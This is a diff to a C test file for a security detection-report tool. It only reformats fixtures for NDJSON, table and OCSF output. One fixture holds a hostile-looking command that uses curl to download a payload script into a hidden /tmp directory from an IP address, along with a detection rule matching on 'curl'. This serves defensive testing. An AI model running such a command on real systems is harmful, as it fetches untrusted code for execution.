@@ -134,8 +134,9 @@ VD_TEST(the_value_of_an_absent_field_is_null_and_to_people_absent)
 	expect_part(&vd_out_ndjson, &row,
 		"\"matched\":[{\"field\":\"User\",\"value\":null,\"predicate\":\"User: null\"}]");
 	expect_part(&vd_out_table, &row, "User: (absent)\n");
-	expect_part(&vd_out_ocsf, &row, "\"observables\":[{\"name\":\"device.hostname\",\"type_id\":1,"
-					"\"type\":\"Hostname\",\"value\":\"ws01\"}],");
+	expect_part(&vd_out_ocsf, &row,
+		"\"observables\":[{\"name\":\"device.hostname\",\"type_id\":1,"
+		"\"type\":\"Hostname\",\"value\":\"ws01\"}],");
 }
 
 VD_TEST(repairs_are_named)
@@ -201,9 +202,9 @@ static const struct vd_report_rule long_rule = {
 static struct vd_report_row
 usual_row(void)
 {
-	static const struct vd_evidence usual[] = {{{"CommandLine", 11},
-		{"curl -s -o /tmp/.x/payload.sh http://198.51.100.7/payload.sh", 60},
-		{"CommandLine|contains: 'curl'", 28}, true, false, {"selection", 9}}};
+	static const struct vd_evidence usual[] = {
+		{{"CommandLine", 11}, {"curl -s -o /tmp/.x/payload.sh http://198.51.100.7/payload.sh", 60},
+			{"CommandLine|contains: 'curl'", 28}, true, false, {"selection", 9}}};
 	struct vd_report_row row = match_row();
 	row.rule = &long_rule;
 	row.host = VD_S("web-server-01.example.net");
@@ -230,8 +231,9 @@ VD_TEST(a_table_row_never_exceeds_the_terminal_and_loses_no_part)
 		for (size_t r = 0; r < VD_ARRAY_LEN(rows); r++) {
 			print(&rows[r], columns, &buf);
 			/* level, time, rule; host, place and what matched, each with enough to know it by */
-			const char *const parts[] = {"high  ", r == 0 ? "A \"quoted\" title" : "Download Into a Hid",
-				"01-05T03:59:00", r == 0 ? "ws01" : "web-server-", r == 0 ? ".jsonl:17" : "jsonl.gz:1257",
+			const char *const parts[] = {"high  ",
+				r == 0 ? "A \"quoted\" title" : "Download Into a Hid", "01-05T03:59:00",
+				r == 0 ? "ws01" : "web-server-", r == 0 ? ".jsonl:17" : "jsonl.gz:1257",
 				r == 0 ? "Image: C:\\" : "CommandLine: cur"};
 			for (size_t i = 0; i < VD_ARRAY_LEN(parts); i++)
 				if (strstr(buf.at, parts[i]) == NULL)
